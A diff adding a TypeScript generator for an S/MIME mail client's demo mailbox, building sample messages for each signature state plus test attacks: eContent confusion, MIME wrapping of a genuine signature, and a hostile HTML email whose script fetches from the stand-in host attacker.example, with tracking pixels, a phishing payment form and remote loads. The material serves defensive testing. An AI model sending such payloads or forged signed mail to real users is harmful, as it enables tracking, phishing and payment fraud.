@@ -1,0 +1,377 @@
+// Generates the workbench mailbox on first start: a demo PKI (openssl, demo-pki.ts) and one sample message
+// per badge state, plus the attacks of DESIGN.md's security rules (eContent confusion, MIME wrapping, a
+// hostile HTML body), signed and encrypted with Signet's own core (smime/protect.ts) or, where the attack
+// needs a structure Signet refuses to build, with `openssl cms`. Output goes to `.workbench/` (git-ignored):
+//   .workbench/pki/            CA and user keys (never served)
+//   .workbench/public/         served by the workbench server next to dist/:
+//     trust-anchors.pem        the demo root, read by the pane as the organisation's trust anchors
+//     demo/owner-identity.pem  the mailbox owner's demo key, which the workbench hands to the pane
+//     mailbox/index.json, *.eml, *.p7m
+
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { cryptoProvider } from '../core/crypto.js';
+import { toBase64, utf8 } from '../core/bytes.js';
+import { formatDate } from '../core/mime/builder.js';
+import { parseMime } from '../core/mime/parser.js';
+import { protectMessage, type ProtectOptions } from '../core/smime/protect.js';
+import { loadIdentities } from '../keys/identity-file.js';
+import { makeDemoPki, type DemoPki, type DemoUser } from './demo-pki.js';
+import { MAILBOX_PATH, type Delivery, type MailboxIndex, type MailboxMessage, type MailboxPerson } from './mailbox.js';
+
+export const MAILBOX_VERSION = 3;
+
+/** Host name used by every remote reference in the hostile sample; the e2e tests watch for it. */
+export const ATTACKER_HOST = 'attacker.example';
+
+const CRLF = '\r\n';
+
+function person(u: DemoUser): MailboxPerson {
+  return { name: u.name, email: u.email };
+}
+
+function outerHeaders(m: { id: string; from: MailboxPerson; to: MailboxPerson[]; subject: string; date: Date }): string {
+  return [
+    `From: ${m.from.name} <${m.from.email}>`,
+    `To: ${m.to.map((t) => `${t.name} <${t.email}>`).join(', ')}`,
+    `Subject: ${m.subject}`,
+    `Date: ${formatDate(m.date)}`,
+    `Message-ID: <${m.id}.${m.date.getTime()}@workbench.signet.example>`,
+    'MIME-Version: 1.0',
+  ].join(CRLF);
+}
+
+function textEntity(text: string): string {
+  return `Content-Type: text/plain; charset=utf-8${CRLF}Content-Transfer-Encoding: 8bit${CRLF}${CRLF}${text.replace(/\r?\n/g, CRLF)}${CRLF}`;
+}
+
+function replaceOnce(haystack: string, needle: string, replacement: string): string {
+  const i = haystack.indexOf(needle);
+  if (i < 0) throw new Error(`sample generator: ${JSON.stringify(needle)} not found`);
+  return haystack.slice(0, i) + replacement + haystack.slice(i + needle.length);
+}
+
+const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');
+const fromLatin1 = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'latin1'));
+
+function hostileHtml(): string {
+  const a = `http://${ATTACKER_HOST}`;
+  return `<!doctype html>
+<html><head>
+<meta http-equiv="refresh" content="0; url=${a}/meta-refresh">
+<link rel="stylesheet" href="${a}/link.css">
+<base href="${a}/base/">
+<style>
+  @import url("${a}/import.css");
+  body { background: url(${a}/css-background.png); font-family: sans-serif; }
+  .box { border: 1px solid #999; padding: 8px; }
+</style>
+<script>parent.postMessage('signet-pwned', '*'); fetch('${a}/script-fetch');</script>
+</head>
+<body>
+<h2>Invoice 2024-117</h2>
+<p class="box">Please find the invoice below. This message tries every trick to load remote content or run
+script; in Signet none of it should work.</p>
+<p>Tracking pixel: <img src="${a}/pixel.png" width="1" height="1" alt="pixel"></p>
+<p><img src="x" onerror="parent.postMessage('signet-pwned', '*')" alt="broken image with onerror"></p>
+<p><img srcset="${a}/srcset.png 2x" alt="srcset"></p>
+<div style="background-image: url('${a}/inline-style.png')">A block with a remote background.</div>
+<table background="${a}/table-background.png"><tr><td>Amount due</td><td>EUR 1,250.00</td></tr></table>
+<form action="${a}/form" method="post"><input name="iban" value="DE00 1234"><button type="submit">Pay now</button></form>
+<iframe src="${a}/iframe.html"></iframe>
+<object data="${a}/object.swf"></object>
+<video poster="${a}/poster.png" src="${a}/video.mp4"></video>
+<svg width="10" height="10"><image href="${a}/svg-image.png" width="10" height="10"/></svg>
+<p><a href="${a}/phish">Pay online</a></p>
+</body></html>
+`;
+}
+
+function relatedHtmlEntity(png: Uint8Array, csv: string): string {
+  const b1 = 'mixed-5f1d0a';
+  const b2 = 'related-77b2c9';
+  const html =
+    '<html><body style="font-family: Segoe UI, sans-serif">' +
+    '<p><img src="cid:logo@signet" alt="Signet logo" width="32" height="32"></p>' +
+    '<h3>Contract draft, version 3</h3>' +
+    '<p>Hi Dana,</p><p>here is the <b>contract draft</b> we discussed. The price table is attached as CSV.</p>' +
+    '<p>Best,<br>Alice</p></body></html>';
+  return [
+    `Content-Type: multipart/mixed; boundary="${b1}"`,
+    '',
+    `--${b1}`,
+    `Content-Type: multipart/related; boundary="${b2}"`,
+    '',
+    `--${b2}`,
+    'Content-Type: text/html; charset=utf-8',
+    'Content-Transfer-Encoding: 8bit',
+    '',
+    html,
+    `--${b2}`,
+    'Content-Type: image/png',
+    'Content-Transfer-Encoding: base64',
+    'Content-ID: <logo@signet>',
+    'Content-Disposition: inline; filename="logo.png"',
+    '',
+    toBase64(png, 76).replace(/\n/g, CRLF),
+    `--${b2}--`,
+    `--${b1}`,
+    'Content-Type: text/csv; charset=utf-8; name="prices.csv"',
+    'Content-Disposition: attachment; filename="prices.csv"',
+    'Content-Transfer-Encoding: 8bit',
+    '',
+    csv,
+    `--${b1}--`,
+    '',
+  ].join(CRLF);
+}
+
+interface Built {
+  id: string;
+  from: MailboxPerson;
+  to: MailboxPerson[];
+  subject: string;
+  date: Date;
+  preview: string;
+  delivery: Delivery;
+  eml: Uint8Array;
+  exported?: Uint8Array;
+}
+
+/** Builds every sample; `pkiDir` holds the PEM files openssl needs for the hand-made attacks. */
+async function buildSamples(pki: DemoPki, pkiDir: string, assetsDir: string): Promise<Built[]> {
+  const provider = cryptoProvider();
+  const ids = async (u: DemoUser) => (await loadIdentities(utf8(u.identityPem), undefined, provider))[0]!;
+  const [alice, bob, mallory, expired] = await Promise.all([ids(pki.users.alice), ids(pki.users.bob), ids(pki.users.mallory), ids(pki.users.expired)]);
+  const owner = pki.users.owner;
+  const ownerCert = (await ids(owner)).certificate;
+  const aliceCert = alice.certificate;
+  const carolCert = (await ids(pki.users.carol)).certificate;
+  const now = new Date();
+  // Spread the dates so the list reads like an inbox, newest first; every one is within the signing-time skew.
+  let minutes = 0;
+  const at = (): Date => new Date(now.getTime() - (minutes += 7) * 60_000);
+  const to = [person(owner)];
+  const out: Built[] = [];
+
+  const make = async (
+    spec: { id: string; from: DemoUser; subject: string; preview: string; delivery?: Delivery; entity: string },
+    protect: Omit<ProtectOptions, 'provider'> | null,
+  ): Promise<Built> => {
+    const date = at();
+    const head = { id: spec.id, from: person(spec.from), to, subject: spec.subject, date };
+    const plain = utf8(outerHeaders(head) + CRLF + spec.entity);
+    // signingTime = Date header: the core rejects a Date far from the signing time (a re-dated replay).
+    const options: ProtectOptions | null = protect && { ...protect, provider, ...(protect.sign ? { sign: { ...protect.sign, signingTime: date } } : {}) };
+    const eml = options ? await protectMessage(plain, options) : plain;
+    const built: Built = { ...head, preview: spec.preview, delivery: spec.delivery ?? (protect ? 'smime-attachment' : 'plain'), eml };
+    out.push(built);
+    return built;
+  };
+
+  const report = 'Hi Dana,\n\nthe quarterly report is final: revenue EUR 1,250,000, costs EUR 980,000.\n\nAlice';
+  await make(
+    { id: 'plain', from: pki.users.carol, subject: 'Lunch on Friday?', preview: 'An ordinary message without S/MIME.', entity: textEntity('Lunch on Friday at 12?\n\nCarol') },
+    null,
+  );
+  await make(
+    { id: 'valid-signed', from: pki.users.alice, subject: 'Quarterly report (signed)', preview: 'Clear-signed (multipart/signed) by a trusted sender.', entity: textEntity(report) },
+    { sign: { identity: alice } },
+  );
+  await make(
+    { id: 'opaque-signed', from: pki.users.alice, subject: 'Meeting notes (opaque signed)', preview: 'Opaque signed-data (application/pkcs7-mime).', entity: textEntity('Notes from Monday:\n- ship Signet\n- celebrate\n\nAlice') },
+    { sign: { identity: alice, opaque: true } },
+  );
+  const tampered = await make(
+    { id: 'tampered', from: pki.users.alice, subject: 'Payment instructions (tampered)', preview: 'Signed, then the amount was changed in transit.', entity: textEntity('Please transfer EUR 1,250 to our usual account.\n\nAlice') },
+    { sign: { identity: alice } },
+  );
+  tampered.eml = fromLatin1(replaceOnce(latin1(tampered.eml), 'EUR 1,250', 'EUR 9,250'));
+  await make(
+    { id: 'untrusted', from: pki.users.mallory, subject: 'Urgent: new bank details', preview: "Signed with a certificate from a CA nobody trusts, in Alice's name.", entity: textEntity('Our bank details changed, please update them.\n\n"Alice"') },
+    { sign: { identity: mallory } },
+  );
+  await make(
+    { id: 'expired', from: pki.users.expired, subject: 'Old certificate', preview: "Signed with a certificate that expired in 2021.", entity: textEntity('I still use my old certificate.\n\nOscar') },
+    { sign: { identity: expired } },
+  );
+  await make(
+    { id: 'sender-mismatch', from: pki.users.alice, subject: 'Re: invoice (sender mismatch)', preview: "From says Alice, but Bob signed it.", entity: textEntity('Please pay the invoice today.\n\nAlice (really Bob)') },
+    { sign: { identity: bob } },
+  );
+  await make(
+    { id: 'encrypted', from: pki.users.alice, subject: 'Salary review (encrypted)', preview: 'Encrypted to you (AES-256-GCM), not signed.', entity: textEntity('The salary review meeting moved to Thursday.\n\nAlice') },
+    { encrypt: { recipients: [ownerCert, aliceCert], cipher: 'aes-256-gcm' } },
+  );
+  const png = new Uint8Array(readFileSync(join(assetsDir, 'icon-32.png')));
+  await make(
+    {
+      id: 'signed-encrypted',
+      from: pki.users.alice,
+      subject: 'Contract draft (signed and encrypted)',
+      preview: 'Signed, then encrypted: HTML with an inline image and a CSV attachment.',
+      entity: relatedHtmlEntity(png, 'item,price\r\nlicence,1200\r\nsupport,300'),
+    },
+    { sign: { identity: alice }, encrypt: { recipients: [ownerCert, aliceCert], cipher: 'aes-256-gcm' } },
+  );
+  await make(
+    { id: 'encrypted-other', from: pki.users.alice, subject: 'For Carol only (encrypted)', preview: 'Encrypted for someone else: you have no key for it.', entity: textEntity('Carol, this is for you only.\n\nAlice') },
+    { encrypt: { recipients: [carolCert], cipher: 'aes-128-gcm' } },
+  );
+  const reser = await make(
+    {
+      id: 'reserialized',
+      from: pki.users.alice,
+      subject: 'Travel plans (re-serialized by Outlook)',
+      preview: 'Clear-signed; this Outlook only gives a rebuilt copy (no smime.p7m).',
+      delivery: 'reserialized',
+      entity: textEntity('I land at 10:40 on Tuesday.\n\nAlice'),
+    },
+    { sign: { identity: alice } },
+  );
+  // What classic Outlook does when it rebuilds MIME from MAPI: same content, different bytes.
+  reser.exported = fromLatin1(replaceOnce(latin1(reser.eml), 'Content-Type: text/plain; charset=utf-8', 'Content-Type: text/plain;\r\n\tcharset="utf-8"'));
+
+  // Attack: eContent confusion (rule 2): the signature carries its own content; the visible part is another text.
+  const evil = join(pkiDir, 'econtent.txt');
+  writeFileSync(evil, 'Content-Type: text/plain\r\n\r\nThe text Alice really signed.\r\n');
+  const der = execFileSync('openssl', ['cms', '-sign', '-nodetach', '-binary', '-md', 'sha256', '-in', evil, '-signer', 'alice.pem', '-inkey', 'alice.key', '-certfile', 'inter.pem', '-outform', 'DER'], { cwd: pkiDir });
+  const b = 'sig-3c1f';
+  await make(
+    {
+      id: 'attack-econtent',
+      from: pki.users.alice,
+      subject: 'Attack: eContent confusion',
+      preview: 'multipart/signed whose signature secretly carries other content.',
+      delivery: 'smime-attachment',
+      entity: [
+        `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="${b}"`,
+        '',
+        `--${b}`,
+        textEntity('Please wire EUR 50,000 to the new account.\n\nAlice').replace(/\r\n$/, ''),
+        `--${b}`,
+        'Content-Type: application/pkcs7-signature; name="smime.p7s"',
+        'Content-Transfer-Encoding: base64',
+        'Content-Disposition: attachment; filename="smime.p7s"',
+        '',
+        toBase64(new Uint8Array(der), 76).replace(/\n/g, CRLF),
+        `--${b}--`,
+        '',
+      ].join(CRLF),
+    },
+    null,
+  );
+  // Attack: MIME wrapping (rule 1): Alice's genuinely signed entity hidden below an attacker's text.
+  const genuine = await protectMessage(utf8(`From: Alice Example <alice@example.org>${CRLF}MIME-Version: 1.0${CRLF}` + textEntity('Yes, approved.\n\nAlice')), { sign: { identity: alice }, provider });
+  const genuineEntity = latin1(genuine).split(CRLF + 'MIME-Version: 1.0' + CRLF)[1]!;
+  const w = 'wrap-9a0e';
+  await make(
+    {
+      id: 'attack-wrapping',
+      from: pki.users.alice,
+      subject: 'Attack: MIME wrapping',
+      preview: 'A genuine signed part wrapped below an unsigned attacker text.',
+      delivery: 'plain',
+      entity: [`Content-Type: multipart/mixed; boundary="${w}"`, '', `--${w}`, textEntity('Approved: transfer the full budget to account DE00 9999.').replace(/\r\n$/, ''), `--${w}`, genuineEntity.replace(/\r\n$/, ''), `--${w}--`, ''].join(CRLF),
+    },
+    null,
+  );
+  await make(
+    {
+      id: 'attack-html',
+      from: pki.users.alice,
+      subject: 'Attack: hostile HTML (remote content, script, forms)',
+      preview: 'Signed and encrypted HTML with remote images, script, a form, CSS url() and meta refresh.',
+      entity: `Content-Type: text/html; charset=utf-8${CRLF}Content-Transfer-Encoding: 8bit${CRLF}${CRLF}${hostileHtml().replace(/\r?\n/g, CRLF)}`,
+    },
+    { sign: { identity: alice }, encrypt: { recipients: [ownerCert], cipher: 'aes-256-gcm' } },
+  );
+  // About 100 KB of signed text: the message the badge-latency benchmark opens.
+  const line = 'Signet benchmark line: the quick brown fox jumps over the lazy dog 0123456789.';
+  const big = Array.from({ length: 1300 }, (_, i) => `${String(i).padStart(4, '0')} ${line}`).join('\n');
+  await make(
+    { id: 'large-signed', from: pki.users.alice, subject: 'Statistics, 100 KB (signed)', preview: 'A 100 KB clear-signed message (the latency benchmark).', entity: textEntity(big) },
+    { sign: { identity: alice } },
+  );
+  return out;
+}
+
+/** The smime.p7m attachment Exchange keeps: the whole MIME for multipart/signed, else the CMS DER. */
+function smimeAttachment(eml: Uint8Array): Uint8Array {
+  const root = parseMime(eml);
+  if (root.type === 'multipart/signed') return eml;
+  return root.decodeBody();
+}
+
+function packageRoot(): string {
+  // lib/src/workbench/samples.js → three levels up.
+  return fileURLToPath(new URL('../../../', import.meta.url));
+}
+
+/** Paths of the generated workbench data under a package root. */
+export function workbenchPaths(root = packageRoot()): { base: string; publicDir: string; pkiDir: string; index: string } {
+  const base = join(root, '.workbench');
+  const publicDir = join(base, 'public');
+  return { base, publicDir, pkiDir: join(base, 'pki'), index: join(publicDir, MAILBOX_PATH, 'index.json') };
+}
+
+function currentVersion(index: string): number | null {
+  try {
+    return (JSON.parse(readFileSync(index, 'utf8')) as MailboxIndex).version;
+  } catch {
+    return null;
+  }
+}
+
+/**
+ * Makes sure `.workbench/` holds a current mailbox: generates the demo PKI and the samples when missing or
+ * made by an older generator. Returns the public folder the server should serve. `log` gets progress lines.
+ */
+export async function ensureMailbox(root = packageRoot(), log: (line: string) => void = () => {}, force = false): Promise<string> {
+  const paths = workbenchPaths(root);
+  if (!force && currentVersion(paths.index) === MAILBOX_VERSION) return paths.publicDir;
+  log('Generating the workbench mailbox (demo CA, identities and samples) with openssl and Signet…');
+  const started = Date.now();
+  const tmp = join(paths.base, `tmp-${process.pid}`);
+  rmSync(tmp, { recursive: true, force: true });
+  const pkiDir = join(tmp, 'pki');
+  const pub = join(tmp, 'public');
+  const pki = makeDemoPki(pkiDir);
+  const samples = await buildSamples(pki, pkiDir, join(root, 'assets'));
+  const mailboxDir = join(pub, MAILBOX_PATH);
+  mkdirSync(mailboxDir, { recursive: true });
+  mkdirSync(join(pub, 'demo'), { recursive: true });
+  writeFileSync(join(pub, 'trust-anchors.pem'), pki.rootPem);
+  writeFileSync(join(pub, 'demo', 'owner-identity.pem'), pki.users.owner.identityPem);
+  const messages: MailboxMessage[] = samples.map((s) => {
+    const m: MailboxMessage = { id: s.id, from: s.from, to: s.to, subject: s.subject, date: s.date.toISOString(), preview: s.preview, delivery: s.delivery, file: `${s.id}.eml` };
+    writeFileSync(join(mailboxDir, m.file), s.eml);
+    if (s.exported) {
+      m.exportFile = `${s.id}.export.eml`;
+      writeFileSync(join(mailboxDir, m.exportFile), s.exported);
+    }
+    if (s.delivery === 'smime-attachment') {
+      const p7m = smimeAttachment(s.eml);
+      m.attachmentFile = `${s.id}.p7m`;
+      m.attachmentSize = p7m.length;
+      writeFileSync(join(mailboxDir, m.attachmentFile), p7m);
+    }
+    return m;
+  });
+  const index: MailboxIndex = { version: MAILBOX_VERSION, generatedAt: new Date().toISOString(), owner: person(pki.users.owner), messages };
+  writeFileSync(join(mailboxDir, 'index.json'), JSON.stringify(index, null, 2));
+  rmSync(paths.publicDir, { recursive: true, force: true });
+  rmSync(paths.pkiDir, { recursive: true, force: true });
+  mkdirSync(paths.base, { recursive: true });
+  renameSync(pub, paths.publicDir);
+  renameSync(pkiDir, paths.pkiDir);
+  rmSync(tmp, { recursive: true, force: true });
+  log(`Workbench mailbox ready: ${messages.length} samples in ${((Date.now() - started) / 1000).toFixed(1)} s (${paths.publicDir}).`);
+  return paths.publicDir;
+}
+
+export function mailboxExists(root = packageRoot()): boolean {
+  return existsSync(workbenchPaths(root).index);
+}
